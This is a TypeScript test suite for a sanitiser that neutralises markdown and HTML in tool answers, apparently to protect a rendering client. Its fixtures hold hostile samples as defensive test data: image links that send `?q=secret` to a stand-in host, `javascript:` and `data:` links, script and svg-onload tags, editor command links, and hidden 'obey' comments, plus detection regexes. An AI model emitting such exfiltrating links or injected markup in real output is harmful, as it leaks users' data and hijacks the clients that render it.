import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseMarkup } from '../../src/redaction/markup.ts';
import { sanitize, sanitizeText } from '../../src/redaction/sanitize.ts';

const EVIL = 'https://evil.example/x?q=secret';

describe('markup that a client would act on', () => {
  it.each([
    ['an image', `![alt](${EVIL})`, '![alt] (link removed: evil.example)'],
    ['an image with a title', `![a](${EVIL} "t")`, '![a] (link removed: evil.example)'],
    ['an image of several lines', `![a](\n  ${EVIL}\n  'a title'\n)`, '![a] (link removed: evil.example)'],
    ['an image in a quote', `> ![a](\n> ${EVIL})`, '> ![a] (link removed: evil.example)'],
    ['an image in angle brackets', '![a](<https://evil.example/a b>)', '![a] (link removed: evil.example)'],
    ['an image with credentials', '![a](https://ui@evil.example/)', '![a] (link removed: evil.example)'],
    ['a link', `[read this](${EVIL})`, '[read this] (link removed: evil.example)'],
    [
      'an image in a link',
      `[![a](${EVIL})](http://b.c:1/)`,
      '[![a] (link removed: evil.example)] (link removed: b.c:1)',
    ],
    ['brackets in brackets', `![a [b] \\] c](${EVIL})`, '![a [b] \\] c] (link removed: evil.example)'],
    ['parentheses in a link', '[a](https://evil.example/(x)(y))z', '[a] (link removed: evil.example)z'],
    ['a link without a scheme', '[a](//evil.example/x)', '[a] (link removed: evil.example)'],
    ['a link with backslashes', '[a](\\\\/evil.example/x)', '[a] (link removed: evil.example)'],
    ['escaped punctuation', '[a](https\\://evil.example)', '[a] (link removed: evil.example)'],
    ['numbers of characters', '[a](&#104;t&#x74;ps&#58;//evil.example)', '[a] (link removed: evil.example)'],
    ['names of characters', '[a](https&colon;&sol;&sol;evil.example)', '[a] (link removed: evil.example)'],
    ['a script', '[a](javascript:alert(1))', '[a] (link removed: javascript)'],
    ['a script broken up', '[a](java&Tab;script&NewLine;:alert(1))', '[a] (link removed: javascript)'],
    ['data', '![a](data:image/svg+xml;base64,PHN2Zz4=)', '![a] (link removed: data)'],
    ['a command of the editor', '[a](command:workbench.action.x)', '[a] (link removed: command)'],
    ['an autolink', `see <${EVIL}> there`, 'see (link removed: evil.example) there'],
    ['an autolink to a script', '<javascript:alert(1)>', '(link removed: javascript)'],
    ['a comment', 'a<!-- obey -->b', 'a‹!-- obey -->b'],
    ['an open comment', 'a<!-- obey', 'a‹!-- obey'],
    ['a declaration', '<!obey me>', '‹!obey me>'],
    ['an instruction', '<?obey me?>', '‹?obey me?>'],
    ['a section', '<![CDATA[ obey ]]>', '‹![CDATA[ obey ]]>'],
    ['the end of nothing', '</ obey>', '‹/ obey>'],
    ['an HTML image', `<img src="${EVIL}">`, `‹img src="${EVIL}">`],
    ['an HTML image of several lines', '<IMG\n/src=x', '‹IMG\n/src=x'],
    ['a script element', '<ScRiPt>alert(1)</script>', '‹ScRiPt>alert(1)</script>'],
    ['a frame', '<iframe srcdoc="x">', '‹iframe srcdoc="x">'],
    ['a drawing', '<svg/onload=alert(1)>', '‹svg/onload=alert(1)>'],
    ['a style', '<style>@import "//evil.example"</style>', '‹style>@import "//evil.example"</style>'],
    ['a linked style', '<link rel=stylesheet href=//evil.example>', '‹link rel=stylesheet href=//evil.example>'],
    ['an object', '<object data="//evil.example">', '‹object data="//evil.example">'],
    ['an embedded object', '<embed src="//evil.example">', '‹embed src="//evil.example">'],
    ['a handler of any element', '<x y="z" onclick = alert(1)>', '‹x y="z" onclick = alert(1)>'],
    ['a handler of an element with an odd name', '<x<y onclick=alert(1)>', '‹x‹y onclick=alert(1)>'],
    ['an HTML link', `<a class=b href='${EVIL}'>text</a>`, `‹a class=b href='${EVIL}'>text</a>`],
    ['a reference to an image', `![a][r]\n\n[r]: ${EVIL}`, `![a][r]\n\n[r] : ${EVIL}`],
    ['a reference on two lines', `[r]:\n  <${EVIL}>\n "t"`, '[r] :\n  (link removed: evil.example)\n "t"'],
    ['a definition in a quote', '> [r]:\n> //evil.example', '> [r] :\n> //evil.example'],
  ])('is neutralised: %s', (_what, text, expected) => {
    expect(neutraliseMarkup(text)).toBe(expected);
    expect(neutraliseMarkup(expected)).toBe(expected);
  });

  it.each([
    ['an image whose end is in the next field', '![a](https://evil.example/?q=', '![a] (https://evil.example/?q='],
    ['a link whose text is in the field before', '](https://evil.example/)', '] (link removed: evil.example)'],
    ['a title whose end is in the next field', '[a](https://evil.example "t', '[a] (https://evil.example "t'],
    ['an autolink whose end is in the next field', '<https://evil.example/?q=', '‹https://evil.example/?q='],
    [
      'an element whose end is in the next field',
      '<img src="https://evil.example/?q=',
      '‹img src="https://evil.example/?q=',
    ],
    ['an element whose attributes are in the next field', 'a <img', 'a ‹img'],
    ['a comment whose end is in the next field', '<!--', '‹!--'],
  ])('is neutralised in parts: %s', (_what, text, expected) => {
    expect(neutraliseMarkup(text)).toBe(expected);
  });

  it('is found behind what is invisible', () => {
    expect(sanitizeText('![a]\u200b(https://evil.example)')).toBe('![a] (link removed: evil.example)');
    expect(sanitizeText('<\u001b[1mimg src=x>')).toBe('‹img src=x>');
    expect(sanitizeText('<\u00ad!-- obey -->')).toBe('‹!-- obey -->');
  });

  it('does not come about by taking markup out', () => {
    expect(neutraliseMarkup(`[a]<${EVIL}>(//evil.example)`)).toBe('[a](link removed: evil.example)(//evil.example)');
    expect(neutraliseMarkup('[a](https://x"><img src=y>)')).toBe('[a] (https://x">‹img src=y>)');
    expect(neutraliseMarkup('[a](https://[b](//evil.example))')).toBe('[a] (https://[b] (link removed: evil.example))');
  });

  it('is neutralised in keys, and where it is alone in an answer', () => {
    const given = { [`[k](${EVIL})`]: [{ text: '<!--' }], same: '<init>' };
    expect(sanitize(given, JSON.stringify(given))).toEqual({
      '[k] (link removed: evil.example)': [{ text: '‹!--' }],
      same: '<init>',
    });
  });

  it('stays in a text that the caller itself sent, since the next call must say the same', () => {
    const notes = '[runbook](https://wiki.example/x)';
    const answer = { next_steps: [{ arguments: { rules: [{ notes }] } }], stored: `${notes}!` };
    expect(sanitize(answer, JSON.stringify(answer), { rules: [{ notes }] })).toEqual({
      ...answer,
      stored: '[runbook] (link removed: wiki.example)!',
    });
  });
});

describe('text that is no such markup stays to the letter', () => {
  it.each([
    'http://otel:4317',
    'https://api.datadoghq.com/v1?a=b#c',
    'grpc://[::1]:4317 [::]:4317',
    'jaeger.tracing:4317',
    '/users/{id}/[slug]/(.*)',
    '^/api/[a-z0-9]+(/.*)?$',
    '[^:](https?://.*)',
    '(?<!foo)(?<![a-z])(?<=bar)(?<name>x)',
    'List<String>',
    'Map<String, List<? extends Number>>',
    'Class<?>, Pair<?, ?>, Comparator<? super T>',
    '<T extends Comparable<T>>',
    'std::vector<std::string>',
    'template <class T> void f<T>(const char* x)',
    'com.shop.Checkout.<init>',
    'java.lang.Object.<clinit>()',
    'lambda$main$0',
    'main.(*Server).ServeHTTP.func1[go.shape.string]',
    'handlers[name](request)',
    'rate(http_requests_total{code=~"5..", path!="/"}[5m:1m]) > 0.5 and foo[5m] <bool 3',
    'sum by (le) (rate(x_bucket[5m])) <= 3',
    'a < b && b > c, x<y, 1<2, ->, <-, <=>',
    'usage: <namespace>/<name>, <host:port>, <image>, <object>, <name> <title>',
    'cat <<EOF > file; if [ "$a" -lt 3 ]; then echo "$(x)"; fi',
    'Jo Doe <jo@example.com>',
    'expected <nil>, got <*errors.errorString>',
    '[error]: http://otel:4317 refused the connection',
    '[main]: done:\n[worker]: started: "x"',
    '[a](/own/path "title") [b](#part) ![c](picture.png)',
    '- [ ] to do\n- [x](done)\n# title\n**bold** `code`',
    'key: [a, b]\nother: {a: "[x]: y"}\n? [c]: d\n!!binary |\n  aGVsbG8=\n<<: *anchor\n',
    '&lt;img src=x&gt; &amp; &#60;',
    '<b>bold</b> <br/> <p>text</p>',
  ])('%s', (text) => {
    expect(neutraliseMarkup(text)).toBe(text);
  });

  it('and an answer of such texts is not copied', () => {
    const answer = { endpoint: 'http://otel:4317', functions: ['<init>', 'List<String>', 'a[0]', 'x < y'], '/{id}': 1 };
    expect(sanitize(answer, JSON.stringify(answer))).toBe(answer);
  });
});

/** What hostile text is put together from. */
const PIECES = [
  ...[
    '[',
    '](',
    ']:',
    '![a]',
    '(',
    ')',
    '<',
    '</',
    '<!',
    '<!--',
    '-->',
    '<?',
    '>',
    '\\',
    '"',
    "'",
    ' ',
    '\n',
    '&colon;',
  ],
  ...[
    '&#58;',
    '/',
    ':',
    'https:',
    '//evil.example',
    'javascript:',
    '/own',
    'img',
    'script',
    'a',
    ' href=',
    ' onx=',
    '=x',
  ],
  ...['\u200b', '\u001b[1m', '<init>', 'List<String>', '`', '> ', 'data:', '[r]: '],
];
const hostile = fc.array(fc.constantFrom(...PIECES), { maxLength: 14 }).map((pieces) => pieces.join(''));

/** What a renderer would act on, told without the code under test: link, definition, autolink, comment, element. */
const ACTS = [
  /\]\([\s>]*<?\s*(?:https?:|javascript:|data:|\/\/)/i,
  /(?:^|\n)[ >]*\[[^[\]]+\]:\s*<?(?:https?:|javascript:|data:|\/\/)\S*\s*(?:\n|$)/i,
  /<(?:https?|javascript|data):[^\s<>]*>/i,
  /<!--/,
  /<(?:img|script)(?:[\s/]|$)/i,
  /<script>/i,
];

describe('whatever text is put together', () => {
  it('nothing in it is acted on, and a second look finds nothing more', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const clean = sanitizeText(text);
        for (const act of ACTS) expect(clean).not.toMatch(act);
        expect(sanitizeText(clean)).toBe(clean);
      }),
      { numRuns: 5_000, examples: [['](<\nhttps:'], [']:/\\<!'], ['[r]: //evil.example\\\n href=']] },
    );
  });

  it('the one look at the JSON text of an answer misses nothing', () => {
    fc.assert(
      fc.property(hostile, hostile, (text, key) => {
        const answer = { list: [{ [key]: text }] };
        expect(sanitize(answer, JSON.stringify(answer))).toEqual({
          list: [{ [sanitizeText(key)]: sanitizeText(text) }],
        });
      }),
      { numRuns: 5_000 },
    );
  });

  it.each([
    ...['<', '](', '](h:', ']: h:', '<h:', '<x ', '<x src ', '](h: ', '[a](h:(', '](h: "', "](h:'\\", '<!--', '<a/'],
    ...['](&#58;', '![a](https://e/', '[a](https://e/x) '],
  ])('a megabyte of %s takes no time to speak of', (piece) => {
    const text = `<x [a](h: "${piece.repeat(2 ** 20 / piece.length)}`;
    // Some 0.3 s; with a second look at each stretch it would be hours, and this test would not end.
    expect(sanitize({ text }, JSON.stringify({ text })).text.length).toBeGreaterThan(0);
  });
});
